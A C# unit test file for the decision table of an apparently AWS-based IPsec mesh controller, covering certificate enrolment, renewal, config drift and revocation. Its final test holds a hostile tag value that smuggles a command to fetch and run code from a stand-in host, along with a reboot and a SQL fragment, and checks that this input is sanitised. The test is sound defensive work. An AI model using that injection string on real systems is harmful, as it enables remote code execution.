using System.Text.Json.Nodes;
using IpsecMesh.Core.Model;
using IpsecMesh.Core.Reconcile;
using IpsecMesh.HostAgent.Protocol;

namespace IpsecMesh.Core.Tests.Reconcile;

/// <summary>The decision table: every phase × observation row, and what the controller does next.</summary>
public class DeciderTests
{
    private static readonly DateTimeOffset Now = DateTimeOffset.Parse("2026-11-24T12:00:00Z");
    private static readonly DecisionTimings Timings = new(TimeSpan.FromSeconds(5), TimeSpan.FromSeconds(30));
    private static readonly DesiredState Desired = new() { ConfigHash = "cfg-current", CurrentCaId = "ca-1", RenewAfter = TimeSpan.FromDays(7) };
    private static readonly CertificateFacts FreshCert = new("0a1b", Now.AddDays(-1), Now.AddDays(29), "names-1", "ca-1");

    /// <summary>An enabled, converged instance; rows vary one thing from here.</summary>
    private static Observation Converged(Phase phase = Phase.Enabled, string state = "running") => new()
    {
        InstanceId = "i-0abc",
        Instance = new InstanceSnapshot { InstanceId = "i-0abc", InstanceArn = "arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc", State = state, Tags = new Dictionary<string, string>(), ObservedAt = Now },
        TagValue = phase.ToString().ToLowerInvariant(),
        Phase = phase,
        IdentityNamesHash = "names-1",
        AppliedConfigHash = "cfg-current",
        InstalledCertExpiry = FreshCert.NotAfter,
        StatusTag = StatusText.Enrolled,
        Certificate = FreshCert,
        AgentOnline = true,
        SecurityChecked = true,
        Desired = Desired,
        Now = Now,
    };

    private static Observation Fresh(Phase phase) => Converged(phase) with
    {
        AppliedConfigHash = null, InstalledCertExpiry = null, Certificate = null, StatusTag = null, AgentOnline = null, SecurityChecked = false,
    };

    /// <summary>A finished command; the config hash it was sent with is the one its results echo (as a sound host does).</summary>
    private static CommandSnapshot Finished(CommandStatus status, params string[] resultLines) => new()
    {
        CommandId = "cmd-1",
        Verbs = resultLines.Select(l => JsonNode.Parse(l)!["verb"]!.GetValue<string>()).DefaultIfEmpty("install").ToArray(),
        SentAt = Now.AddMinutes(-1),
        SentConfigHash = resultLines.Select(l => JsonNode.Parse(l)!["configHash"]?.GetValue<string>()).FirstOrDefault(h => h is not null),
        Status = status,
        Results = AgentResult.ParseAll(string.Join('\n', resultLines)),
    };

    /// <summary>An opted-out instance whose certificate was already revoked (the cache no longer holds it).</summary>
    private static Observation Revoked(Phase phase, string state = "running") => Converged(phase, state) with { Certificate = null };

    private static string Ok(string verb, string fields = "") => $"{{\"ipsecMesh\":1,\"verb\":\"{verb}\",\"ok\":true{fields}}}";

    private static string Fail(string verb, string code, string error) => $"{{\"ipsecMesh\":1,\"verb\":\"{verb}\",\"ok\":false,\"code\":\"{code}\",\"error\":\"{error}\"}}";

    private static Decision Decide(Observation o) => Decider.Decide(o, Timings);

    public static TheoryData<string, Observation, Type, string?> Table() => new()
    {
        // Vanished or terminated instances: revoke and forget, whatever the tag.
        { "vanished", Converged() with { Instance = null }, typeof(Decision.Retire), null },
        { "terminated", Converged(state: "terminated"), typeof(Decision.Retire), null },
        { "shutting down", Converged(Phase.Todo, "shutting-down"), typeof(Decision.Retire), null },
        // Not ours.
        { "untagged, never ours", Fresh(Phase.Absent), typeof(Decision.Idle), null },
        { "disabled, nothing of ours left", Fresh(Phase.Disabled), typeof(Decision.Idle), null },
        { "unknown value, not yet reported", Converged(Phase.Unknown) with { TagValue = "yes please" }, typeof(Decision.Wait), "tag value 'yes please' is not one of todo, off; ignored" },
        { "unknown value, reported", Converged(Phase.Unknown) with { TagValue = "x", StatusTag = StatusText.UnknownValue("x") }, typeof(Decision.Idle), null },
        // todo: the enrolment path.
        { "todo, stopped", Fresh(Phase.Todo) with { Instance = Converged(state: "stopped").Instance }, typeof(Decision.Wait), "instance is stopped; waiting for it to run" },
        { "todo, agent not asked yet", Fresh(Phase.Todo), typeof(Decision.ObserveHost), null },
        { "todo, agent offline", Fresh(Phase.Todo) with { AgentOnline = false, SecurityChecked = true }, typeof(Decision.Wait), StatusText.WaitingForAgent },
        { "todo, security group blocks", Fresh(Phase.Todo) with { AgentOnline = true, SecurityChecked = true, SecurityProblem = "security group sg-1 blocks UDP 500 from the mesh" }, typeof(Decision.MarkFailed), "security group sg-1 blocks UDP 500 from the mesh" },
        { "todo, ready", Fresh(Phase.Todo) with { AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
        { "todo, the policy leaves the host in clear", Fresh(Phase.Todo) with { AgentOnline = true, SecurityChecked = true, CoverageProblem = "address 10.9.0.5 is in no mesh policy group: peers would reach it in clear" }, typeof(Decision.MarkFailed), "address 10.9.0.5 is in no mesh policy group: peers would reach it in clear" },
        { "enabled, config drift on a host the policy no longer covers: apply it, never fail it", Converged() with { AppliedConfigHash = "cfg-old", CoverageProblem = "address 10.9.0.5 is in no mesh policy group: peers would reach it in clear" }, typeof(Decision.Send), "apply-config" },
        { "todo, command running", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.InProgress) }, typeof(Decision.Poll), null },
        { "todo, install+csr done", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\""), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.SignAndInstall), "enrol" },
        { "todo, install failed", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Failed, Fail("install", "install_failed", "exit 3: no package")) }, typeof(Decision.MarkFailed), "install failed: install_failed: exit 3: no package" },
        { "todo, command timed out", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.TimedOut) }, typeof(Decision.MarkFailed), "install failed: command timed out" },
        { "todo, cert installed", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install-cert", $",\"serial\":\"0a1b\",\"notAfter\":\"{FreshCert.NotAfter:O}\"")) }, typeof(Decision.MarkApplied), "enabled" },
        { "todo, key mismatch on install-cert", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Failed, Fail("install-cert", "no_matching_key", "no key")) }, typeof(Decision.Send), "csr" },
        { "todo, CSR already signed before a restart", Fresh(Phase.Todo) with { Certificate = FreshCert with { IssuedAt = Now.AddSeconds(-30) }, Command = Finished(CommandStatus.Success, Ok("install"), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.InstallIssued), null },
        // failed: retried after backoff, at once when the user says todo again.
        { "failed, backing off", Fresh(Phase.Failed) with { RetryNotBefore = Now.AddMinutes(2) }, typeof(Decision.Backoff), null },
        { "failed, backoff over", Fresh(Phase.Failed) with { RetryNotBefore = Now.AddSeconds(-1), AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
        { "todo again after failed ignores backoff", Fresh(Phase.Todo) with { RetryNotBefore = Now.AddMinutes(5), AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
        { "failed after a certificate install: the issued certificate is installed, no new one", Converged(Phase.Failed) with { InstalledCertExpiry = null, StatusTag = "certificate install failed: x" }, typeof(Decision.InstallIssued), null },
        { "failed after a certificate install, converged otherwise", Converged(Phase.Failed) with { StatusTag = "certificate install failed: x" }, typeof(Decision.MarkApplied), "enabled" },
        { "host key missing for a certificate from its own CSR", Fresh(Phase.Todo) with { InstallingCertFromCsr = true, Command = Finished(CommandStatus.Failed, Fail("install-cert", "no_matching_key", "no key")) }, typeof(Decision.MarkFailed), "certificate install failed: the host holds no key for the certificate signed from its own CSR" },
        { "host key missing for a certificate from its renewal CSR", Converged() with { InstallingCertFromCsr = true, CsrFromRenewal = true, Command = Finished(CommandStatus.Failed, Fail("install-cert", "no_matching_key", "no key")) }, typeof(Decision.MarkFailed), "certificate install failed: the host holds no key for the certificate signed from its own CSR" },
        { "todo set after a renewal CSR whose key is gone: reinstall, the todo stays", Converged(Phase.Todo) with { InstallingCertFromCsr = true, CsrFromRenewal = true, Command = Finished(CommandStatus.Failed, Fail("install-cert", "no_matching_key", "no key")) }, typeof(Decision.Send), "install+csr" },
        { "todo, enrolment cut short after signing: install the issued certificate", Converged(Phase.Todo) with { InstalledCertExpiry = null, StatusTag = "installing certificate" }, typeof(Decision.InstallIssued), null },
        { "todo, cut short before the config tag: reinstall without a new CSR", Converged(Phase.Todo) with { AppliedConfigHash = null, InstalledCertExpiry = null }, typeof(Decision.Send), "install" },
        { "todo on an enabled host: reinstall, keep the valid certificate", Converged(Phase.Todo), typeof(Decision.Send), "install" },
        { "todo, install done on a host presenting another certificate: forget it, install the issued one", Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"certSerial\":\"ff01\"")) }, typeof(Decision.MarkApplied), "cfg-current" },
        { "todo, install done, the host presents the issued certificate", Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"certSerial\":\"0A1B\"")) }, typeof(Decision.MarkApplied), "enabled" },
        { "todo, install alone done, certificate right", Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\"")) }, typeof(Decision.MarkApplied), "enabled" },
        // An install that re-created a damaged NSS database: the host holds no key or certificate any more.
        { "todo on an enabled host, install re-created the NSS database: a new CSR, not the registry's certificate", Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"nssReinitialised\":true")) }, typeof(Decision.Send), "csr" },
        { "failed host repaired by an install that re-created the NSS database", Converged(Phase.Failed) with { InstalledCertExpiry = null, Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"nssReinitialised\":true")) }, typeof(Decision.Send), "csr" },
        { "install+csr that re-created the NSS database: the new CSR is signed", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"nssReinitialised\":true"), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.SignAndInstall), "enrol" },
        { "install that kept the NSS database: the certificate stays", Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"nssReinitialised\":false")) }, typeof(Decision.MarkApplied), "enabled" },
        { "todo, libreswan too old", Fresh(Phase.Todo) with { Command = Finished(CommandStatus.Failed, Fail("install", "unsupported_version", "libreswan 3.32 is older than 4.0")) }, typeof(Decision.MarkFailed), "install failed: unsupported_version: libreswan 3.32 is older than 4.0; upgrade libreswan to 4.0 or later" },
        { "failed because the CSR was not the host's: no automatic retry", Converged(Phase.Failed) with { StatusTag = StatusText.ForeignCsrKey, InstalledCertExpiry = null }, typeof(Decision.Idle), null },
        // enabled: drift repair.
        { "enabled, converged", Converged(), typeof(Decision.Idle), null },
        { "enabled, status says otherwise", Converged() with { StatusTag = "installing certificate" }, typeof(Decision.MarkApplied), "enabled" },
        { "enabled, renewal due", Converged() with { Certificate = FreshCert with { IssuedAt = Now.AddDays(-7) } }, typeof(Decision.Send), "csr" },
        { "enabled, expired", Converged() with { Certificate = FreshCert with { NotAfter = Now.AddSeconds(-1) } }, typeof(Decision.Send), "csr" },
        { "enabled, IP set changed", Converged() with { IdentityNamesHash = "names-2" }, typeof(Decision.Send), "csr" },
        { "enabled, config changed", Converged() with { AppliedConfigHash = "cfg-old" }, typeof(Decision.Send), "apply-config" },
        { "enabled, config and cert both due", Converged() with { AppliedConfigHash = "cfg-old", IdentityNamesHash = "names-2" }, typeof(Decision.Send), "apply-config+csr" },
        { "enabled, CA rotated, reissue allowed", Converged() with { Desired = Desired with { CurrentCaId = "ca-2" } }, typeof(Decision.Send), "csr" },
        { "enabled, CA rotated, peers not ready", Converged() with { Desired = Desired with { CurrentCaId = "ca-2", CaReissueAllowed = false } }, typeof(Decision.Idle), null },
        { "enabled and converged, display tags written by someone else: shown again from the facts, no command", Converged() with { TagsShowOtherFacts = true }, typeof(Decision.MarkApplied), null },
        { "enabled, newest cert not installed", Converged() with { InstalledCertExpiry = FreshCert.NotAfter.AddDays(-7) }, typeof(Decision.InstallIssued), null },
        { "enabled, no config tag: reinstall, keep the valid certificate", Converged() with { AppliedConfigHash = null }, typeof(Decision.Send), "install" },
        { "enabled, drift but agent offline", Converged() with { AppliedConfigHash = "cfg-old", AgentOnline = false }, typeof(Decision.Wait), StatusText.WaitingForAgent },
        { "enabled, apply-config done", Converged() with { AppliedConfigHash = "cfg-old", Command = Finished(CommandStatus.Success, Ok("apply-config", ",\"configHash\":\"cfg-current\"")) }, typeof(Decision.MarkApplied), "cfg-current" },
        // CRLs are part of the config hash, so a revocation is one more config change; a bad CRL fails apply-config.
        { "enabled, host rejected the config (a CRL)", Converged() with { Desired = Desired with { ConfigHash = "cfg-new-crl" }, Command = Finished(CommandStatus.Failed, Fail("apply-config", "bad_certificate", "crl/0123456789abcdef.crl is not a DER CRL signed by CA 0123456789abcdef of the bundle")) }, typeof(Decision.MarkFailed), null },
        { "enabled, renewal CSR done", Converged() with { Command = Finished(CommandStatus.Success, Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.SignAndInstall), "renew" },
        // Opting out (off, disabled written by the team, the tag deleted): revoke first, whatever the host does; then remove.
        { "off, never enrolled", Fresh(Phase.Off), typeof(Decision.MarkDisabled), null },
        { "off, enrolled: revoke first", Converged(Phase.Off), typeof(Decision.Revoke), "off" },
        { "off, revoked: uninstall", Revoked(Phase.Off), typeof(Decision.Send), "uninstall" },
        { "off, revoked, agent not asked", Revoked(Phase.Off) with { AgentOnline = null }, typeof(Decision.ObserveHost), null },
        { "off, agent offline: revoke anyway", Converged(Phase.Off) with { AgentOnline = false }, typeof(Decision.Revoke), "off" },
        { "off, revoked, agent offline", Revoked(Phase.Off) with { AgentOnline = false }, typeof(Decision.Wait), "certificate revoked; waiting for SSM agent" },
        { "off, stopped: revoke anyway", Converged(Phase.Off, "stopped"), typeof(Decision.Revoke), "off" },
        { "off, revoked, stopped", Revoked(Phase.Off, "stopped"), typeof(Decision.Wait), "certificate revoked; instance is stopped; waiting for it to run" },
        { "off, uninstall done", Revoked(Phase.Off) with { Command = Finished(CommandStatus.Success, Ok("uninstall")) }, typeof(Decision.MarkDisabled), null },
        { "off, uninstall failed keeps off", Revoked(Phase.Off) with { Command = Finished(CommandStatus.Failed, Fail("uninstall", "internal", "boom")) }, typeof(Decision.MarkFailed), "keep" },
        { "off, uninstall failed: the certificate stays revoked", Converged(Phase.Off) with { Command = Finished(CommandStatus.Failed, Fail("uninstall", "internal", "boom")) }, typeof(Decision.Revoke), "off" },
        { "off while install runs: revoke first", Converged(Phase.Off) with { Command = Finished(CommandStatus.Pending) }, typeof(Decision.Revoke), "off" },
        { "off while install runs, revoked: wait for it", Revoked(Phase.Off) with { Command = Finished(CommandStatus.Pending) }, typeof(Decision.Poll), null },
        { "off, an install finished after the opt-out: record it, then remove it", Fresh(Phase.Off) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\""), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.MarkApplied), "cfg-current" },
        { "disabled written on an enrolled host: revoke first", Converged(Phase.Disabled), typeof(Decision.Revoke), "disabled" },
        { "disabled written on an enrolled host, revoked: uninstall", Revoked(Phase.Disabled), typeof(Decision.Send), "uninstall" },
        { "disabled, uninstall done", Revoked(Phase.Disabled) with { Command = Finished(CommandStatus.Success, Ok("uninstall")) }, typeof(Decision.MarkDisabled), null },
        { "disabled, uninstall failed", Revoked(Phase.Disabled) with { Command = Finished(CommandStatus.Failed, Fail("uninstall", "internal", "boom")) }, typeof(Decision.MarkFailed), "keep" },
        { "tag deleted on an enrolled host: revoke first", Converged(Phase.Absent), typeof(Decision.Revoke), "tag_deleted" },
        { "tag deleted, revoked: uninstall", Revoked(Phase.Absent), typeof(Decision.Send), "uninstall" },
        { "tag deleted, uninstall done: only our tags go", Revoked(Phase.Absent) with { Command = Finished(CommandStatus.Success, Ok("uninstall")) }, typeof(Decision.MarkDisabled), "tag deleted" },
        { "tag deleted, every tag of ours gone too: revoke", Fresh(Phase.Absent) with { Certificate = FreshCert }, typeof(Decision.Revoke), "tag_deleted" },
        // The config a host has is what this controller sent and the host confirmed, never what the host says.
        { "a host that reports another config than it was sent", Converged() with { AppliedConfigHash = "cfg-old", Command = Finished(CommandStatus.Success, Ok("apply-config", ",\"configHash\":\"cfg-evil\"")) with { SentConfigHash = "cfg-current" } }, typeof(Decision.MarkFailed), "config apply failed: the host reported config cfg-evil, not the cfg-current it was sent" },
    };

    [Theory]
    [MemberData(nameof(Table))]
    public void Decides_the_next_step(string row, Observation observation, Type expected, string? detail)
    {
        var decision = Decide(observation);
        Assert.True(expected == decision.GetType(), $"{row}: expected {expected.Name}, got {decision}");
        switch (decision)
        {
            case Decision.Send send when detail is not null:
                Assert.Equal(detail, string.Join('+', send.Verbs));
                break;
            case Decision.Wait wait when detail is not null:
                Assert.Equal(detail, wait.Status);
                break;
            case Decision.MarkFailed failed when detail == "keep":
                Assert.True(failed.KeepPhase, row);
                Assert.EndsWith(StatusText.RevokedSuffix, failed.Reason, StringComparison.Ordinal);
                break;
            case Decision.Revoke revoke:
                Assert.Equal(detail, revoke.Label);
                break;
            case Decision.MarkDisabled disabled:
                Assert.Equal(detail == "tag deleted", disabled.TagDeleted);
                break;
            case Decision.MarkFailed failed when detail is not null:
                Assert.Equal(detail, failed.Reason);
                Assert.False(failed.KeepPhase, row);
                Assert.Equal(failed.Reason.StartsWith("install failed", StringComparison.Ordinal) || failed.Reason.StartsWith("config apply failed: the host reported", StringComparison.Ordinal), failed.ForgetConfig);
                break;
            case Decision.MarkApplied applied when detail == "enabled":
                Assert.True(applied.Enabled, row);
                break;
            case Decision.MarkApplied applied when detail is not null:
                Assert.Equal(detail, applied.ConfigHash);
                break;
            case Decision.SignAndInstall sign when detail is not null:
                Assert.Equal(detail, sign.Reason);
                break;
        }
    }

    [Fact]
    public void A_host_presenting_another_certificate_gets_the_issued_one_after_a_todo()
    {
        var tampered = Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"certSerial\":\"ff01\"")) };
        var forget = Assert.IsType<Decision.MarkApplied>(Decide(tampered));
        Assert.True(forget.ForgetCertificate);
        Assert.False(forget.Enabled);
        // Once the expiry tag is gone, the registry's certificate is installed (no new CSR while it is valid).
        Assert.IsType<Decision.InstallIssued>(Decide(Converged(Phase.Todo) with { InstalledCertExpiry = null }));
    }

    [Fact]
    public void A_config_applied_while_a_newer_one_was_published_leaves_the_instance_to_the_next_rollout()
    {
        var stale = Converged() with
        {
            AppliedConfigHash = "cfg-old",
            Desired = Desired with { ConfigHash = "cfg-newer-crl" },
            Command = Finished(CommandStatus.Success, Ok("apply-config", ",\"configHash\":\"cfg-new-crl\"")),
        };
        Assert.False(Assert.IsType<Decision.MarkApplied>(Decide(stale)).Enabled);
        Assert.Equal(["apply-config"], Assert.IsType<Decision.Send>(Decide(stale with { Command = null, AppliedConfigHash = "cfg-new-crl" })).Verbs);
    }

    [Fact]
    public void After_an_install_that_re_created_the_nss_database_the_config_is_recorded_and_the_certificate_expiry_forgotten()
    {
        var reinstalled = Converged(Phase.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\",\"nssReinitialised\":true")) };

        var send = Assert.IsType<Decision.Send>(Decide(reinstalled));

        Assert.Equal(["csr"], send.Verbs);
        Assert.Equal("cfg-current", send.AppliedConfigHash);
        Assert.True(send.ForgetCertificate);
        Assert.Equal(StatusText.NssRecreated, send.Status);
        // With controller-made keys the install is followed by a new key and certificate, as after any install.
        var controllerKeys = reinstalled with { Desired = Desired with { ControllerGeneratesKeys = true } };
        Assert.IsType<Decision.IssueKeyAndInstall>(Decide(controllerKeys));
    }

    [Fact]
    public void A_converged_instance_is_looked_at_again_when_its_renewal_is_due()
    {
        var idle = Assert.IsType<Decision.Idle>(Decide(Converged()));
        Assert.Equal(TimeSpan.FromDays(6), idle.RequeueAfter);
    }

    [Fact]
    public void Controller_generated_keys_enrol_with_install_then_a_pkcs12()
    {
        var ready = Fresh(Phase.Todo) with { AgentOnline = true, SecurityChecked = true, Desired = Desired with { ControllerGeneratesKeys = true } };
        Assert.Equal(["install"], Assert.IsType<Decision.Send>(Decide(ready)).Verbs);
        var installed = ready with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\"")) };
        Assert.Equal("cfg-current", Assert.IsType<Decision.IssueKeyAndInstall>(Decide(installed)).AppliedConfigHash);
    }

    [Fact]
    public void Hostile_tag_values_reach_the_status_only_cleaned_and_bounded()
    {
        var hostile = "$(curl evil|sh)`reboot`\n\"'; DROP" + new string('é', 300);
        var wait = Assert.IsType<Decision.Wait>(Decide(Converged(Phase.Unknown) with { TagValue = hostile }));
        Assert.DoesNotContain('$', wait.Status);
        Assert.DoesNotContain('`', wait.Status);
        Assert.DoesNotContain('\n', wait.Status);
        Assert.DoesNotContain('"', wait.Status);
        Assert.True(wait.Status.Length <= StatusText.MaxLength);
    }
}
